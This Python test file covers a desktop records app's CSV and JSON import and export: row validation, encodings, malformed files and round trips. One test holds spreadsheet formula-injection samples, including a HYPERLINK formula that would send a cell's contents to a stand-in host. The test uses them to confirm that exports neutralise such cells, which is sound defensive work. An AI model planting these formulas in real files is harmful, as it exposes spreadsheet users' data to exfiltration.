"""CSV and JSON in and out: good rows imported, each bad one reported, nothing half-imported."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from desktop.domain.records import Incident, Organization, Person, new_id
from desktop.domain.translation import set_language
from desktop.store.errors import MalformedFile
from desktop.store.exchange import (
    export_csv,
    export_json,
    import_organizations_csv,
    import_people_csv,
)
from desktop.store.profile import Profile
from desktop.store.records import RecordQuery, RecordStore
from tests.domain.conftest import TODAY
from tests.helpers.profiles import new_profile

SPACE = new_id()


@pytest.fixture
def store(tmp_path: Path) -> RecordStore:
    set_language("en")
    profile: Profile = new_profile(tmp_path / "p")[0]
    yield RecordStore(profile.engine)
    profile.close()


ORGANIZATIONS = """name,acronym,country,email,website,objectives
Colectivo Tierra Viva,CTV,Colombia,contacto@example.org,https://example.org,land_housing_natural_resources
Red de Mujeres,,bo,,,women_escr;economic_policy
,NONAME,co,,,
Bad Mail Collective,,co,not-an-address,,
Unknown Country Org,,Atlantis,,,
جمعية الأرض,,مصر,,,
Colectivo Tierra Viva,,co,,,
Too many cells,,co,,,,,extra
Bad objectives,,co,,,world_peace
"""


def _names(store: RecordStore, kind: str) -> set[str]:
    return {row.label for row in store.page(RecordQuery(kind))}


def test_a_file_with_bad_rows_imports_nothing_and_names_each_line(store: RecordStore) -> None:
    report = import_organizations_csv(store, ORGANIZATIONS.encode("utf-8"), SPACE)
    # Nothing half-imported: the person fixes the lines and imports the whole file again.
    assert report.imported == 0 and report.sound == 3
    assert store.count(RecordQuery("organization")) == 0
    rejected = {row.line: row.reasons for row in report.rejected}
    assert sorted(rejected) == [4, 5, 6, 8, 9, 10]
    assert all(reasons for reasons in rejected.values())
    assert "e-mail" in " ".join(rejected[5])
    assert "already" in " ".join(rejected[8])

    fixed = "\n".join([*ORGANIZATIONS.splitlines()[:3], ORGANIZATIONS.splitlines()[6]]) + "\n"
    report = import_organizations_csv(store, fixed.encode("utf-8"), SPACE)
    assert report.imported == 3 and report.rejected == []
    assert _names(store, "organization") == {
        "Colectivo Tierra Viva",
        "Red de Mujeres",
        "جمعية الأرض",
    }
    egypt = next(r for r in store.page(RecordQuery("organization")) if r.label == "جمعية الأرض")
    assert egypt.country == "eg"  # a country typed by its Arabic name


def test_report_is_in_the_current_language(store: RecordStore) -> None:
    set_language("es")
    report = import_organizations_csv(store, b"name,email\nX,nope\n", SPACE)
    set_language("en")
    assert (
        report.rejected[0].reasons != [] and "e-mail address" not in report.rejected[0].reasons[0]
    )


def test_people_link_to_organizations_by_name(store: RecordStore) -> None:
    import_organizations_csv(store, b"name\nSindicato Minero\n", SPACE)
    people = (
        "kind;name;headcount;organization\n"
        "individual;Ana;;Sindicato Minero\n"
        "group;Comunidad El Porvenir;120;\n"
        "group;No headcount;;\n"
        "alien;Zed;;\n"
        "individual;Luis;;Nowhere Org\n"
        "individual;Many;x12;\n"
    )
    report = import_people_csv(store, people.encode("utf-8"), SPACE)
    assert report.imported == 0 and report.sound == 2
    assert [row.line for row in report.rejected] == [4, 5, 6, 7]
    good = "\n".join(people.splitlines()[:3]) + "\n"
    assert import_people_csv(store, good.encode("utf-8"), SPACE).imported == 2
    ana = next(r for r in store.page(RecordQuery("person")) if r.label == "Ana")
    record = store.get(ana.id)
    assert isinstance(record, Person) and record.organization_id is not None


@pytest.mark.parametrize(
    ("raw", "reason"),
    [
        (b"", "empty"),
        (b"   \n", "empty"),
        ("name\nCaf\xe9\n".encode("latin-1"), "encoding"),
        (b"acronym\nX\n", "missing_columns"),
        (b"name,colour\nX,red\n", "unknown_columns"),
        (b"\x00\x01\x02 binary", "unreadable"),
    ],
)
def test_malformed_files_import_nothing(store: RecordStore, raw: bytes, reason: str) -> None:
    with pytest.raises(MalformedFile) as caught:
        import_organizations_csv(store, raw, SPACE)
    assert caught.value.reason == reason
    assert caught.value.user_message()
    assert store.count(RecordQuery("organization")) == 0


def test_utf16_with_bom_and_excel_semicolons_are_read(store: RecordStore) -> None:
    text = "name;country\r\nAsociación Agua Viva;Bolivia\r\n"
    report = import_organizations_csv(store, text.encode("utf-16"), SPACE)
    assert report.imported == 1 and report.rejected == []


def test_export_round_trips_through_import(store: RecordStore) -> None:
    store.save_all(
        [Organization(space_id=SPACE, name=f"Org {n}", country="co") for n in range(1203)]
    )
    sink = io.StringIO()
    assert export_csv(store, RecordQuery("organization"), sink) == 1203
    rows = list(csv.DictReader(io.StringIO(sink.getvalue())))
    assert len(rows) == 1203 and rows[0]["country"] == "co"
    other = new_id()
    report = import_organizations_csv(store, sink.getvalue().encode("utf-8"), other)
    assert report.imported == 1203 and report.rejected == []


def test_a_name_a_spreadsheet_would_run_is_exported_as_text_and_imports_back(
    store: RecordStore,
) -> None:
    # Names come from other members through sync and the CSV is opened in spreadsheets: a cell
    # starting with = + - @ is a formula there. It leaves with an apostrophe (text to a
    # spreadsheet) and comes back without it.
    names = ['=HYPERLINK("https://example.org/?"&A1,"Ver")', "@SUM(1)", "-2+3", "+57 Colectivo"]
    store.save_all([Organization(space_id=SPACE, name=name, country="co") for name in names])
    sink = io.StringIO()
    export_csv(store, RecordQuery("organization"), sink)
    cells = {row["name"] for row in csv.DictReader(io.StringIO(sink.getvalue()))}
    assert cells == {"'" + name for name in names}
    other = new_id()
    report = import_organizations_csv(store, sink.getvalue().encode("utf-8"), other)
    assert report.imported == len(names)
    imported = {
        record.name
        for row in store.page(RecordQuery("organization", space_ids=(other,)), 0, 10)
        if isinstance(record := store.get(row.id), Organization)
    }
    assert imported == set(names)


def test_json_export_is_complete_and_parseable(store: RecordStore) -> None:
    incidents = [
        Incident(space_id=SPACE, title=f"Incidente {n}", narrative="línea 1\nlínea 2")
        for n in range(3)
    ]
    for incident in incidents:
        store.save(incident, today=TODAY)
    sink = io.StringIO()
    assert export_json(store, RecordQuery("incident"), sink) == 3
    data = json.loads(sink.getvalue())
    assert {d["title"] for d in data} == {"Incidente 0", "Incidente 1", "Incidente 2"}
    assert data[0]["narrative"] == "línea 1\nlínea 2"


@pytest.mark.parametrize(
    ("raw", "line", "words"),
    [
        # The issue's own example: an unclosed quote used to become a name ‘"Unclosed quote,PS’.
        (b'name,country\nGood,co\n"Unclosed quote,PS\nOther,pe\n', 3, "never closed"),
        (b'name,country\n"Stray" quote,co\nOther,pe\n', 2, "double each one"),
        (b"name,country\nA,co\nB,co,extra\n", 3, "more cells"),
    ],
)
def test_malformed_rows_are_reported_by_line_and_nothing_is_imported(
    store: RecordStore, raw: bytes, line: int, words: str
) -> None:
    report = import_organizations_csv(store, raw, SPACE)
    assert report.imported == 0
    assert store.count(RecordQuery("organization")) == 0
    (rejected,) = report.rejected
    assert rejected.line == line and words in " ".join(rejected.reasons)


def test_quotes_written_as_csv_writes_them_are_read(store: RecordStore) -> None:
    raw = 'name,country\n"Asociación ""Agua Viva""",bo\n"Comas, y más",co\n'.encode()
    report = import_organizations_csv(store, raw, SPACE)
    assert report.imported == 2 and report.rejected == []
    assert _names(store, "organization") == {'Asociación "Agua Viva"', "Comas, y más"}
